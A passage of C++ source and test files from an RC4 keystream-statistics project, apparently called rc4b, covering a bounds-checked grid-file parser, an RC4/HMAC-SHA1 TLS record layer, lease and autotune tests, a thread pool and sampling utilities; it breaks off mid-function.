  // Bound pair_count by what the section could possibly hold before any
  // arithmetic on it: (10 + 2 * pair_count) * 8 wraps for pair_count near a
  // multiple of 2^61, which used to slip a huge count past the size check
  // below and into reserve()/GetU64() (tests/store/grid_file_corrupt_test.cc).
  const uint64_t max_pairs =
      (bytes.size() - kMetaFixedFields * sizeof(uint64_t)) /
      (2 * sizeof(uint64_t));
  if (pair_count > max_pairs) {
    return IoStatus::Fail(path + ": pair count " + std::to_string(pair_count) +
                          " cannot fit the meta section (" +
                          std::to_string(bytes.size()) + " bytes)");
  }
  const uint64_t expected =
      (kMetaFixedFields + 2 * pair_count) * sizeof(uint64_t);
  if (bytes.size() != expected) {
    return IoStatus::Fail(path + ": meta section is " +
                          std::to_string(bytes.size()) + " bytes, expected " +
                          std::to_string(expected) + " for " +
                          std::to_string(pair_count) + " pairs");
  }
  out->pairs.clear();
  out->pairs.reserve(pair_count);
  for (uint64_t p = 0; p < pair_count; ++p) {
    const uint64_t a = GetU64(bytes, kMetaFixedFields + 2 * p);
    const uint64_t b = GetU64(bytes, kMetaFixedFields + 2 * p + 1);
    if (a > UINT32_MAX || b > UINT32_MAX) {
      return IoStatus::Fail(path + ": pair " + std::to_string(p) +
                            " out of range");
    }
    out->pairs.emplace_back(static_cast<uint32_t>(a), static_cast<uint32_t>(b));
  }
  return ValidateMeta(*out, path);
}

// Shared by the copying reader and the mmap view: validates the whole image
// and returns the parsed meta plus a span over the cells section.
IoStatus ParseGridImage(std::span<const uint8_t> bytes, const std::string& path,
                        GridMeta* meta, std::span<const uint64_t>* cells) {
  if (bytes.size() < kHeaderBytes) {
    return IoStatus::Fail(path + ": truncated grid file (" +
                          std::to_string(bytes.size()) +
                          " bytes, header needs " +
                          std::to_string(kHeaderBytes) + ")");
  }
  if (GetU64(bytes, 0) != kGridFileMagic) {
    return IoStatus::Fail(path + ": not a grid file (bad magic)");
  }
  const uint64_t version = GetU64(bytes, 1);
  if (version != kGridFormatVersion) {
    return IoStatus::Fail(path + ": unsupported grid format version " +
                          std::to_string(version) + " (this build reads " +
                          std::to_string(kGridFormatVersion) + ")");
  }
  const uint64_t meta_bytes = GetU64(bytes, 2);
  const uint64_t meta_crc = GetU64(bytes, 3);
  const uint64_t cells_offset = GetU64(bytes, 4);
  const uint64_t cells_bytes = GetU64(bytes, 5);
  const uint64_t cells_crc = GetU64(bytes, 6);
  // Every length below is untrusted; compare by subtraction only. A
  // meta_bytes near 2^64 used to wrap `kHeaderBytes + meta_bytes` past the
  // cells_offset check and send subspan() off the end of the mapping
  // (tests/store/grid_file_corrupt_test.cc).
  if (meta_bytes > bytes.size() - kHeaderBytes) {
    return IoStatus::Fail(path + ": meta section of " +
                          std::to_string(meta_bytes) +
                          " bytes exceeds the file (" +
                          std::to_string(bytes.size()) + " bytes)");
  }
  if (cells_offset % sizeof(uint64_t) != 0 ||
      cells_offset < kHeaderBytes + meta_bytes ||
      cells_offset > bytes.size()) {
    return IoStatus::Fail(path + ": corrupt header (cells_offset " +
                          std::to_string(cells_offset) + ", meta_bytes " +
                          std::to_string(meta_bytes) + ")");
  }
  if (bytes.size() != cells_offset + cells_bytes) {
    return IoStatus::Fail(path + ": truncated grid file (" +
                          std::to_string(bytes.size()) +
                          " bytes, header promises " +
                          std::to_string(cells_offset + cells_bytes) + ")");
  }
  const auto meta_section = bytes.subspan(kHeaderBytes, meta_bytes);
  if (SectionCrc(meta_section) != static_cast<uint32_t>(meta_crc)) {
    return IoStatus::Fail(path + ": meta section checksum mismatch");
  }
  const auto cells_section = bytes.subspan(cells_offset, cells_bytes);
  if (SectionCrc(cells_section) != static_cast<uint32_t>(cells_crc)) {
    return IoStatus::Fail(path + ": cells section checksum mismatch");
  }
  if (IoStatus status = ParseMeta(meta_section, path, meta); !status.ok()) {
    return status;
  }
  if (cells_bytes != meta->cell_count() * sizeof(uint64_t)) {
    return IoStatus::Fail(
        path + ": cells section is " + std::to_string(cells_bytes) +
        " bytes, meta describes " +
        std::to_string(meta->cell_count() * sizeof(uint64_t)));
  }
  *cells = std::span<const uint64_t>(
      reinterpret_cast<const uint64_t*>(cells_section.data()),
      cells_bytes / sizeof(uint64_t));
  return IoStatus::Ok();
}

}  // namespace

size_t CellsPerRow(GridKind kind) {
  return kind == GridKind::kSingleByte ? 256 : 65536;
}

const char* GridKindName(GridKind kind) {
  switch (kind) {
    case GridKind::kSingleByte:
      return "singlebyte";
    case GridKind::kConsecutive:
      return "consecutive";
    case GridKind::kPair:
      return "pair";
    case GridKind::kLongTermDigraph:
      return "longterm-digraph";
  }
  return "unknown";
}

bool ParseGridKind(std::string_view name, GridKind* out) {
  for (const GridKind kind :
       {GridKind::kSingleByte, GridKind::kConsecutive, GridKind::kPair,
        GridKind::kLongTermDigraph}) {
    if (name == GridKindName(kind)) {
      *out = kind;
      return true;
    }
  }
  return false;
}

IoStatus ValidateMeta(const GridMeta& meta, const std::string& context) {
  if (meta.rows == 0) {
    return IoStatus::Fail(context + ": grid has zero rows");
  }
  if (meta.key_begin >= meta.key_end) {
    return IoStatus::Fail(context + ": empty key range [" +
                          std::to_string(meta.key_begin) + ", " +
                          std::to_string(meta.key_end) + ")");
  }
  if (meta.kind == GridKind::kPair) {
    if (meta.pairs.size() != meta.rows) {
      return IoStatus::Fail(context + ": pair grid has " +
                            std::to_string(meta.rows) + " rows but " +
                            std::to_string(meta.pairs.size()) + " pairs");
    }
  } else if (!meta.pairs.empty()) {
    return IoStatus::Fail(context + ": non-pair grid carries a pair list");
  }
  if (meta.kind == GridKind::kLongTermDigraph && meta.bytes_per_key == 0) {
    return IoStatus::Fail(context + ": long-term grid without bytes_per_key");
  }
  return IoStatus::Ok();
}

IoStatus CheckSameDataset(const GridMeta& want, const GridMeta& got,
                          const std::string& context) {
  const auto mismatch = [&](const char* field, uint64_t a, uint64_t b) {
    return IoStatus::Fail(context + ": " + field + " mismatch (expected " +
                          std::to_string(a) + ", found " + std::to_string(b) +
                          ")");
  };
  if (want.kind != got.kind) {
    return IoStatus::Fail(context + ": generator kind mismatch (expected " +
                          GridKindName(want.kind) + ", found " +
                          GridKindName(got.kind) + ")");
  }
  if (want.seed != got.seed) {
    return mismatch("seed", want.seed, got.seed);
  }
  if (want.rows != got.rows) {
    return mismatch("rows", want.rows, got.rows);
  }
  if (want.drop != got.drop) {
    return mismatch("drop", want.drop, got.drop);
  }
  if (want.bytes_per_key != got.bytes_per_key) {
    return mismatch("bytes_per_key", want.bytes_per_key, got.bytes_per_key);
  }
  if (want.pairs != got.pairs) {
    return IoStatus::Fail(context + ": position-pair list mismatch");
  }
  return IoStatus::Ok();
}

namespace {

IoStatus WriteGridFileImpl(const std::string& path, const GridMeta& meta,
                           std::span<const uint64_t> cells, bool durable) {
  if (IoStatus status = ValidateMeta(meta, path); !status.ok()) {
    return status;
  }
  if (cells.size() != meta.cell_count()) {
    return IoStatus::Fail(path + ": meta describes " +
                          std::to_string(meta.cell_count()) +
                          " cells, caller passed " +
                          std::to_string(cells.size()));
  }
  const std::vector<uint8_t> meta_section = SerializeMeta(meta);
  const uint64_t cells_offset =
      (kHeaderBytes + meta_section.size() + kCellsAlignment - 1) /
      kCellsAlignment * kCellsAlignment;
  BinaryWriter writer(path);
  writer.WriteU64(kGridFileMagic);
  writer.WriteU64(kGridFormatVersion);
  writer.WriteU64(meta_section.size());
  writer.WriteU64(SectionCrc(meta_section));
  writer.WriteU64(cells_offset);
  writer.WriteU64(cells.size_bytes());
  writer.WriteU64(SectionCrc(AsBytes(cells)));
  writer.WriteBytes(meta_section);
  const std::vector<uint8_t> padding(
      cells_offset - kHeaderBytes - meta_section.size(), 0);
  writer.WriteBytes(padding);
  writer.WriteU64s(cells);
  return durable ? writer.CommitDurable() : writer.Commit();
}

}  // namespace

IoStatus WriteGridFile(const std::string& path, const GridMeta& meta,
                       std::span<const uint64_t> cells) {
  return WriteGridFileImpl(path, meta, cells, /*durable=*/false);
}

IoStatus WriteGridFileDurable(const std::string& path, const GridMeta& meta,
                              std::span<const uint64_t> cells) {
  return WriteGridFileImpl(path, meta, cells, /*durable=*/true);
}

IoStatus ReadGridFile(const std::string& path, StoredGrid* out) {
  MmapFile map;
  if (IoStatus status = MmapFile::Open(path, &map); !status.ok()) {
    return status;
  }
  std::span<const uint64_t> cells;
  if (IoStatus status = ParseGridImage(map.bytes(), path, &out->meta, &cells);
      !status.ok()) {
    return status;
  }
  out->cells.assign(cells.begin(), cells.end());
  return IoStatus::Ok();
}

IoStatus GridFileView::Open(const std::string& path) {
  if (IoStatus status = MmapFile::Open(path, &map_); !status.ok()) {
    return status;
  }
  return ParseGridImage(map_.bytes(), path, &meta_, &cells_);
}

SingleByteGrid ToSingleByteGrid(const StoredGrid& stored) {
  SingleByteGrid grid(stored.meta.rows);
  grid.MergeCells(stored.cells, stored.meta.samples);
  return grid;
}

DigraphGrid ToDigraphGrid(const StoredGrid& stored) {
  DigraphGrid grid(stored.meta.rows);
  grid.MergeCells(stored.cells, stored.meta.samples);
  return grid;
}

}  // namespace rc4b::store
