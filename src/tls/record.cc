#include "src/tls/record.h"

#include <cassert>
#include <cstring>

namespace rc4b {

namespace {

// MAC input: seq(8) || type(1) || version(2) || length(2) || payload.
std::array<uint8_t, HmacSha1::kDigestSize> RecordMac(std::span<const uint8_t> mac_key,
                                                     uint64_t sequence_number,
                                                     uint8_t content_type,
                                                     std::span<const uint8_t> payload) {
  HmacSha1 mac(mac_key);
  uint8_t prefix[13];
  StoreBe64(sequence_number, prefix);
  prefix[8] = content_type;
  StoreBe16(kTlsVersion12, prefix + 9);
  StoreBe16(static_cast<uint16_t>(payload.size()), prefix + 11);
  mac.Update(prefix);
  mac.Update(payload);
  return mac.Finish();
}

}  // namespace

TlsWriteState::TlsWriteState(std::span<const uint8_t> mac_key,
                             std::span<const uint8_t> rc4_key)
    : mac_key_(mac_key.begin(), mac_key.end()), rc4_(rc4_key) {
  assert(mac_key.size() == HmacSha1::kDigestSize && rc4_key.size() == 16);
}

Bytes TlsWriteState::Seal(std::span<const uint8_t> payload, uint8_t content_type) {
  const auto mac = RecordMac(mac_key_, sequence_number_, content_type, payload);
  ++sequence_number_;

  const size_t inner_size = payload.size() + mac.size();
  Bytes record(kTlsRecordHeaderSize + inner_size);
  record[0] = content_type;
  StoreBe16(kTlsVersion12, record.data() + 1);
  StoreBe16(static_cast<uint16_t>(inner_size), record.data() + 3);

  Bytes inner(payload.begin(), payload.end());
  inner.insert(inner.end(), mac.begin(), mac.end());
  rc4_.Process(inner, std::span<uint8_t>(record.data() + kTlsRecordHeaderSize,
                                         inner_size));
  return record;
}

TlsReadState::TlsReadState(std::span<const uint8_t> mac_key,
                           std::span<const uint8_t> rc4_key)
    : mac_key_(mac_key.begin(), mac_key.end()), rc4_(rc4_key) {
  assert(mac_key.size() == HmacSha1::kDigestSize && rc4_key.size() == 16);
}

std::optional<Bytes> TlsReadState::Open(std::span<const uint8_t> record) {
  if (record.size() < kTlsRecordHeaderSize + HmacSha1::kDigestSize) {
    return std::nullopt;
  }
  const uint8_t content_type = record[0];
  const size_t inner_size = LoadBe16(record.data() + 3);
  if (record.size() != kTlsRecordHeaderSize + inner_size ||
      inner_size < HmacSha1::kDigestSize) {
    return std::nullopt;
  }
  Bytes inner(inner_size);
  rc4_.Process(record.subspan(kTlsRecordHeaderSize), inner);

  const size_t payload_size = inner_size - HmacSha1::kDigestSize;
  const std::span<const uint8_t> payload(inner.data(), payload_size);
  const auto expected = RecordMac(mac_key_, sequence_number_, content_type, payload);
  ++sequence_number_;
  if (std::memcmp(expected.data(), inner.data() + payload_size, expected.size()) != 0) {
    return std::nullopt;
  }
  return Bytes(payload.begin(), payload.end());
}

}  // namespace rc4b
