// Lease protocol contract (docs/orchestrate.md): exclusive acquisition,
// heartbeat renewal, stale-steal, and the strict parser that keeps a torn or
// scribbled lease from ever granting ownership.
#include "src/orchestrate/lease.h"

#include <filesystem>
#include <string>

#include <gtest/gtest.h>

namespace rc4b::orchestrate {
namespace {

// Fresh per invocation: lease tests assert on file absence, so leftovers
// from a previous run must not leak in.
std::string FreshDir(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  std::filesystem::remove_all(dir);
  MakeDirs(dir);
  return dir;
}

TEST(LeaseTest, FormatParseRoundTrip) {
  Lease lease;
  lease.owner = "12345.a2";
  lease.acquired_ms = 1700000000000;
  lease.heartbeat_ms = 1700000012000;
  lease.attempt = 2;

  Lease parsed;
  ASSERT_TRUE(ParseLease(FormatLease(lease), "round-trip", &parsed).ok());
  EXPECT_EQ(parsed.owner, lease.owner);
  EXPECT_EQ(parsed.acquired_ms, lease.acquired_ms);
  EXPECT_EQ(parsed.heartbeat_ms, lease.heartbeat_ms);
  EXPECT_EQ(parsed.attempt, lease.attempt);
}

TEST(LeaseTest, ParserRejectsTornAndScribbledInput) {
  Lease good;
  good.owner = "1.a1";
  const std::string text = FormatLease(good);
  Lease out;
  // Every truncation of a valid lease must fail: a torn write (crashed
  // renewer on a non-atomic filesystem) can never look owned.
  for (size_t len = 0; len < text.size(); ++len) {
    EXPECT_FALSE(ParseLease(text.substr(0, len), "torn", &out).ok()) << len;
  }
  EXPECT_FALSE(ParseLease(text + "trailing", "extra", &out).ok());
  EXPECT_FALSE(ParseLease("rc4b-lease 2\n", "version", &out).ok());
  EXPECT_FALSE(ParseLease("not a lease at all", "garbage", &out).ok());
  // Whitespace in the owner token would corrupt the line structure on the
  // next rewrite, so it is rejected on the way in.
  EXPECT_FALSE(
      ParseLease("rc4b-lease 1\nowner a b\nacquired_ms 0\nheartbeat_ms 0\n"
                 "attempt 0\n",
                 "owner-space", &out)
          .ok());
}

TEST(LeaseTest, AcquireCreatesAndReEnters) {
  const std::string path = FreshDir("lease-acquire") + "/s.grid.lease";
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1000, 5000, 1, &lease).ok());
  EXPECT_EQ(lease.owner, "100.a1");
  EXPECT_EQ(lease.acquired_ms, 1000u);

  // The same owner re-enters its own lease (a worker retrying its open).
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1200, 5000, 1, &lease).ok());
  EXPECT_EQ(lease.heartbeat_ms, 1200u);
}

TEST(LeaseTest, FreshForeignLeaseIsTransientlyBusy) {
  const std::string path = FreshDir("lease-busy") + "/s.grid.lease";
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1000, 5000, 1, &lease).ok());

  // Heartbeat age 3000 < TTL 5000: the holder is presumed alive.
  const IoStatus status = AcquireLease(path, "200.a1", 4000, 5000, 1, &lease);
  EXPECT_FALSE(status.ok());
  EXPECT_TRUE(status.transient());

  // The incumbent is unaffected.
  Lease held;
  ASSERT_TRUE(ReadLeaseFile(path, &held).ok());
  EXPECT_EQ(held.owner, "100.a1");
}

TEST(LeaseTest, StaleLeaseIsStolen) {
  const std::string path = FreshDir("lease-steal") + "/s.grid.lease";
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1000, 5000, 1, &lease).ok());

  // Heartbeat age 6000 >= TTL 5000: the holder is presumed dead.
  ASSERT_TRUE(AcquireLease(path, "200.a2", 7000, 5000, 2, &lease).ok());
  EXPECT_EQ(lease.owner, "200.a2");
  EXPECT_EQ(lease.attempt, 2u);

  Lease held;
  ASSERT_TRUE(ReadLeaseFile(path, &held).ok());
  EXPECT_EQ(held.owner, "200.a2");
}

TEST(LeaseTest, CorruptLeaseIsStolenNotTrusted) {
  const std::string path = FreshDir("lease-corrupt") + "/s.grid.lease";
  ASSERT_TRUE(WriteFileAtomic(path, "rc4b-lease 1\nowner tru").ok());

  // A torn lease proves a crashed writer; it grants nobody ownership and is
  // replaced immediately, without waiting out any TTL.
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "300.a1", 100, 999999, 1, &lease).ok());
  EXPECT_EQ(lease.owner, "300.a1");
}

TEST(LeaseTest, RenewAdvancesHeartbeatForTheOwnerOnly) {
  const std::string path = FreshDir("lease-renew") + "/s.grid.lease";
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1000, 5000, 1, &lease).ok());
  ASSERT_TRUE(RenewLease(path, "100.a1", 2000).ok());

  Lease held;
  ASSERT_TRUE(ReadLeaseFile(path, &held).ok());
  EXPECT_EQ(held.heartbeat_ms, 2000u);
  EXPECT_EQ(held.acquired_ms, 1000u);

  // A stealer replaced the lease: the old owner's renew reports the loss as
  // transient — it must stop touching the shard, and a rerun may succeed.
  ASSERT_TRUE(AcquireLease(path, "200.a2", 999000, 5000, 2, &held).ok());
  const IoStatus lost = RenewLease(path, "100.a1", 999100);
  EXPECT_FALSE(lost.ok());
  EXPECT_TRUE(lost.transient());
  ASSERT_TRUE(ReadLeaseFile(path, &held).ok());
  EXPECT_EQ(held.owner, "200.a2");
}

TEST(LeaseTest, RenewOnAMissingLeaseIsALostLease) {
  const std::string path = FreshDir("lease-gone") + "/s.grid.lease";
  const IoStatus status = RenewLease(path, "100.a1", 1000);
  EXPECT_FALSE(status.ok());
  EXPECT_TRUE(status.transient());
}

TEST(LeaseTest, ReleaseRemovesOwnLeaseAndSparesAStolenOne) {
  const std::string dir = FreshDir("lease-release");
  const std::string path = dir + "/s.grid.lease";
  Lease lease;
  ASSERT_TRUE(AcquireLease(path, "100.a1", 1000, 5000, 1, &lease).ok());
  ASSERT_TRUE(ReleaseLease(path, "100.a1").ok());
  EXPECT_FALSE(ReadLeaseFile(path, &lease).ok());

  // Releasing a lease someone else now holds leaves it in place.
  ASSERT_TRUE(AcquireLease(path, "200.a2", 2000, 5000, 2, &lease).ok());
  ASSERT_TRUE(ReleaseLease(path, "100.a1").ok());
  Lease held;
  ASSERT_TRUE(ReadLeaseFile(path, &held).ok());
  EXPECT_EQ(held.owner, "200.a2");
}

TEST(LeaseTest, LeasePathSitsNextToTheShard) {
  EXPECT_EQ(LeasePath("/data/c-shard0.grid"), "/data/c-shard0.grid.lease");
}

}  // namespace
}  // namespace rc4b::orchestrate
