#include "src/common/thread_pool.h"

#include <algorithm>

namespace rc4b {

unsigned DefaultWorkerCount() {
  unsigned n = std::thread::hardware_concurrency();
  return n == 0 ? 1 : n;
}

void ParallelFor(unsigned workers, const std::function<void(unsigned)>& fn) {
  if (workers == 0) {
    workers = DefaultWorkerCount();
  }
  if (workers == 1) {
    fn(0);
    return;
  }
  std::vector<std::thread> threads;
  threads.reserve(workers);
  for (unsigned w = 0; w < workers; ++w) {
    threads.emplace_back([&fn, w] { fn(w); });
  }
  for (auto& t : threads) {
    t.join();
  }
}

void ParallelChunks(uint64_t total, unsigned workers,
                    const std::function<void(unsigned, uint64_t, uint64_t)>& fn) {
  if (workers == 0) {
    workers = DefaultWorkerCount();
  }
  workers = static_cast<unsigned>(
      std::min<uint64_t>(workers, std::max<uint64_t>(total, 1)));
  ParallelFor(workers, [&](unsigned w) {
    const uint64_t begin = total * w / workers;
    const uint64_t end = total * (w + 1) / workers;
    if (begin < end) {
      fn(w, begin, end);
    }
  });
}

}  // namespace rc4b
