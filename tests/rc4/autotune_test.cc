#include "src/rc4/autotune.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>

#include "src/common/io.h"
#include "src/rc4/kernel.h"
#include "src/rc4/kernel_registry.h"

namespace rc4b {
namespace {

std::string TempPath(const std::string& name) {
  return std::string(::testing::TempDir()) + "/" + name;
}

// Clears both dispatch-steering env vars: RC4B_KERNEL outranks the cache in
// ResolveKernelChoice, so a forced-kernel CI run (RC4B_KERNEL=avx512 ...)
// would otherwise defeat the cache-steering assertions below.
class AutotuneEnvGuard {
 public:
  AutotuneEnvGuard() {
    ::unsetenv("RC4B_AUTOTUNE_CACHE");
    ::unsetenv("RC4B_KERNEL");
  }
  ~AutotuneEnvGuard() {
    ::unsetenv("RC4B_AUTOTUNE_CACHE");
    ::unsetenv("RC4B_KERNEL");
  }
};

TEST(AutotuneTest, EnumerationIsDeterministicAndOrdered) {
  const std::vector<size_t> batches = {64, 256};
  const auto first = EnumerateAutotuneCandidates(KernelRegistry(), batches);
  const auto second = EnumerateAutotuneCandidates(KernelRegistry(), batches);
  EXPECT_EQ(first, second);

  // Scalar is always available, so the sweep always starts with its
  // width-1 baseline — the denominator of every speedup in the report.
  ASSERT_FALSE(first.empty());
  EXPECT_EQ(first.front().kernel, "scalar");
  EXPECT_EQ(first.front().width, 1u);
  EXPECT_EQ(first.front().batch_keys, 64u);

  // Registry order x ascending widths x given batch order, available
  // kernels only.
  size_t expected = 0;
  for (const KernelDesc& kernel : KernelRegistry()) {
    if (!kernel.Available()) {
      continue;
    }
    for (const size_t width : kernel.widths) {
      for (const size_t batch : batches) {
        ASSERT_LT(expected, first.size());
        EXPECT_EQ(first[expected].kernel, kernel.name);
        EXPECT_EQ(first[expected].width, width);
        EXPECT_EQ(first[expected].batch_keys, batch);
        ++expected;
      }
    }
  }
  EXPECT_EQ(expected, first.size());
}

// A deliberately wrong kernel: correct width, wrong bytes. The verifier
// must reject it — this is the gate that keeps a miscompiled or buggy ISA
// kernel out of dispatch entirely.
class BrokenKernel final : public Rc4LaneKernel {
 public:
  explicit BrokenKernel(size_t width) : width_(width) {}
  size_t Width() const override { return width_; }
  void Init(std::span<const uint8_t>, size_t) override {}
  void Skip(uint64_t) override {}
  void Keystream(uint8_t* out, size_t length, size_t stride) override {
    for (size_t m = 0; m < width_; ++m) {
      for (size_t t = 0; t < length; ++t) {
        out[m * stride + t] = 0x42;
      }
    }
  }

 private:
  size_t width_;
};

TEST(AutotuneTest, VerifierRejectsMismatchingKernel) {
  BrokenKernel broken(4);
  EXPECT_FALSE(KernelMatchesScalar(broken, 1));
}

TEST(AutotuneTest, VerifierAcceptsEveryRegisteredKernel) {
  for (const KernelDesc& desc : KernelRegistry()) {
    if (!desc.Available()) {
      continue;
    }
    for (const size_t width : desc.widths) {
      auto kernel = desc.make(width);
      ASSERT_NE(kernel, nullptr) << desc.name << " width=" << width;
      EXPECT_TRUE(KernelMatchesScalar(*kernel, 7))
          << desc.name << " width=" << width;
    }
  }
}

TEST(AutotuneTest, PickBestChoiceIgnoresNonBitExactResults) {
  std::vector<AutotuneResult> results(3);
  results[0].candidate = {"scalar", 8, 256};
  results[0].ks_per_s = 100.0;
  results[0].bit_exact = true;
  results[1].candidate = {"avx2", 32, 1024};
  results[1].ks_per_s = 900.0;  // fastest, but not bit-exact: never picked
  results[1].bit_exact = false;
  results[2].candidate = {"ssse3", 16, 64};
  results[2].ks_per_s = 300.0;
  results[2].bit_exact = true;

  const auto choice = PickBestChoice(results);
  ASSERT_TRUE(choice.has_value());
  EXPECT_EQ(choice->kernel, "ssse3");
  EXPECT_EQ(choice->width, 16u);
  EXPECT_EQ(choice->batch_keys, 64u);
  EXPECT_EQ(choice->host, AutotuneHostname());

  results[0].bit_exact = false;
  results[2].bit_exact = false;
  EXPECT_FALSE(PickBestChoice(results).has_value());
  EXPECT_FALSE(PickBestChoice({}).has_value());
}

TEST(AutotuneTest, CacheRoundTripsExactly) {
  AutotuneChoice choice;
  choice.kernel = "scalar";
  choice.width = 8;
  choice.batch_keys = 256;
  choice.ks_per_s = 123456.0;
  choice.host = "test-host";
  choice.cpu_features = "ssse3,avx2";

  const std::string path = TempPath("autotune_roundtrip.txt");
  ASSERT_TRUE(SaveAutotuneChoice(path, choice).ok());
  const auto loaded = LoadAutotuneChoice(path);
  ASSERT_TRUE(loaded.has_value());
  EXPECT_EQ(*loaded, choice);
}

TEST(AutotuneTest, LoadRejectsMissingAndMalformedCaches) {
  EXPECT_FALSE(LoadAutotuneChoice(TempPath("no_such_cache.txt")).has_value());

  const auto write = [](const std::string& name, const std::string& content) {
    const std::string path = TempPath(name);
    std::ofstream out(path);
    out << content;
    out.close();
    return path;
  };
  // Wrong header version.
  EXPECT_FALSE(LoadAutotuneChoice(write("bad_header.txt",
                                        "rc4b-autotune 2\nkernel scalar\n"))
                   .has_value());
  // Missing required fields.
  EXPECT_FALSE(LoadAutotuneChoice(write("missing_fields.txt",
                                        "rc4b-autotune 1\nkernel scalar\n"))
                   .has_value());
  // Non-numeric width.
  EXPECT_FALSE(
      LoadAutotuneChoice(
          write("bad_width.txt",
                "rc4b-autotune 1\nkernel scalar\nwidth x\nbatch_keys 1\n"))
          .has_value());
  // Unknown field: refuse to guess.
  EXPECT_FALSE(
      LoadAutotuneChoice(write("unknown_field.txt",
                               "rc4b-autotune 1\nkernel scalar\nwidth 8\n"
                               "batch_keys 256\nbogus 1\n"))
          .has_value());
}

TEST(AutotuneTest, ValidCachedChoiceRequiresEnvHostAndAvailability) {
  AutotuneEnvGuard guard;

  // No env: nothing cached.
  EXPECT_FALSE(ValidCachedAutotuneChoice().has_value());

  AutotuneChoice choice;
  choice.kernel = "scalar";
  choice.width = 8;
  choice.batch_keys = 512;
  choice.ks_per_s = 1.0;
  choice.host = AutotuneHostname();
  choice.cpu_features = CpuFeatureString();

  // Matching host + always-available kernel: trusted.
  const std::string good = TempPath("autotune_cache_good.txt");
  ASSERT_TRUE(SaveAutotuneChoice(good, choice).ok());
  ::setenv("RC4B_AUTOTUNE_CACHE", good.c_str(), 1);
  const auto cached = ValidCachedAutotuneChoice();
  ASSERT_TRUE(cached.has_value());
  EXPECT_EQ(*cached, choice);

  // Tuned on a different host: rejected.
  choice.host = "some-other-host";
  const std::string foreign = TempPath("autotune_cache_foreign.txt");
  ASSERT_TRUE(SaveAutotuneChoice(foreign, choice).ok());
  ::setenv("RC4B_AUTOTUNE_CACHE", foreign.c_str(), 1);
  EXPECT_FALSE(ValidCachedAutotuneChoice().has_value());

  // Unknown kernel name: rejected.
  choice.host = AutotuneHostname();
  choice.kernel = "retired-kernel";
  const std::string unknown = TempPath("autotune_cache_unknown.txt");
  ASSERT_TRUE(SaveAutotuneChoice(unknown, choice).ok());
  ::setenv("RC4B_AUTOTUNE_CACHE", unknown.c_str(), 1);
  EXPECT_FALSE(ValidCachedAutotuneChoice().has_value());

  // Unsupported width for the cached kernel: rejected.
  choice.kernel = "scalar";
  choice.width = 7;
  const std::string bad_width = TempPath("autotune_cache_width.txt");
  ASSERT_TRUE(SaveAutotuneChoice(bad_width, choice).ok());
  ::setenv("RC4B_AUTOTUNE_CACHE", bad_width.c_str(), 1);
  EXPECT_FALSE(ValidCachedAutotuneChoice().has_value());
}

TEST(AutotuneTest, CachedChoiceSteersAutoDispatch) {
  AutotuneEnvGuard guard;
  AutotuneChoice choice;
  choice.kernel = "scalar";
  choice.width = 4;  // NOT the default width, so we can see it took effect
  choice.batch_keys = 512;
  choice.ks_per_s = 1.0;
  choice.host = AutotuneHostname();
  choice.cpu_features = CpuFeatureString();
  const std::string path = TempPath("autotune_cache_dispatch.txt");
  ASSERT_TRUE(SaveAutotuneChoice(path, choice).ok());
  ::setenv("RC4B_AUTOTUNE_CACHE", path.c_str(), 1);

  const KernelChoice resolved = ResolveKernelChoice("", 0);
  EXPECT_EQ(resolved.name(), "scalar");
  EXPECT_EQ(resolved.width, 4u);

  // An explicit interleave still overrides the cached width.
  const KernelChoice explicit_width = ResolveKernelChoice("", 2);
  EXPECT_EQ(explicit_width.width, 2u);
}

TEST(AutotuneTest, SweepVerifiesTimesAndPicksScalarBaseline) {
  AutotuneEnvGuard guard;
  // A tiny real sweep through the real engine: scalar only, one width, to
  // keep the test fast while exercising verify + time + pick end to end.
  AutotuneOptions options;
  options.keys_per_probe = 1 << 9;
  options.keystream_length = 64;
  options.repeats = 1;
  options.batch_sizes = {64};
  const KernelDesc scalar[] = {ScalarKernelDesc()};
  const auto results = RunAutotuneSweep(options, scalar);
  ASSERT_EQ(results.size(), ScalarKernelDesc().widths.size());
  for (const AutotuneResult& result : results) {
    EXPECT_TRUE(result.bit_exact) << result.candidate.kernel << " width="
                                  << result.candidate.width;
    EXPECT_GT(result.ks_per_s, 0.0);
  }
  const auto best = PickBestChoice(results);
  ASSERT_TRUE(best.has_value());
  EXPECT_EQ(best->kernel, "scalar");
  EXPECT_EQ(best->host, AutotuneHostname());
}

}  // namespace
}  // namespace rc4b
