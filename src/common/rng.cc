#include "src/common/rng.h"

#include <cmath>

namespace rc4b {

double Xoshiro256::Normal() {
  if (has_cached_normal_) {
    has_cached_normal_ = false;
    return cached_normal_;
  }
  double u, v, s;
  do {
    u = 2.0 * UnitDouble() - 1.0;
    v = 2.0 * UnitDouble() - 1.0;
    s = u * u + v * v;
  } while (s >= 1.0 || s == 0.0);
  const double scale = std::sqrt(-2.0 * std::log(s) / s);
  cached_normal_ = v * scale;
  has_cached_normal_ = true;
  return u * scale;
}

void Xoshiro256::Fill(std::span<uint8_t> out) {
  size_t i = 0;
  while (i + 8 <= out.size()) {
    uint64_t w = (*this)();
    std::memcpy(out.data() + i, &w, 8);
    i += 8;
  }
  if (i < out.size()) {
    uint64_t w = (*this)();
    std::memcpy(out.data() + i, &w, out.size() - i);
  }
}

}  // namespace rc4b
