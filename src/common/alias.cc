#include "src/common/alias.h"

#include <cassert>

namespace rc4b {

void AliasTable::Build(std::span<const double> weights) {
  const size_t n = weights.size();
  assert(n > 0);
  double total = 0.0;
  for (double w : weights) {
    assert(w >= 0.0);
    total += w;
  }
  assert(total > 0.0);

  probability_.assign(n, 0.0);
  alias_.assign(n, 0);

  // Scale weights so the average is 1, then pair underfull and overfull
  // slots (Vose's stable partitioning).
  std::vector<double> scaled(n);
  for (size_t i = 0; i < n; ++i) {
    scaled[i] = weights[i] * static_cast<double>(n) / total;
  }
  std::vector<uint32_t> small, large;
  small.reserve(n);
  large.reserve(n);
  for (size_t i = 0; i < n; ++i) {
    (scaled[i] < 1.0 ? small : large).push_back(static_cast<uint32_t>(i));
  }
  while (!small.empty() && !large.empty()) {
    const uint32_t s = small.back();
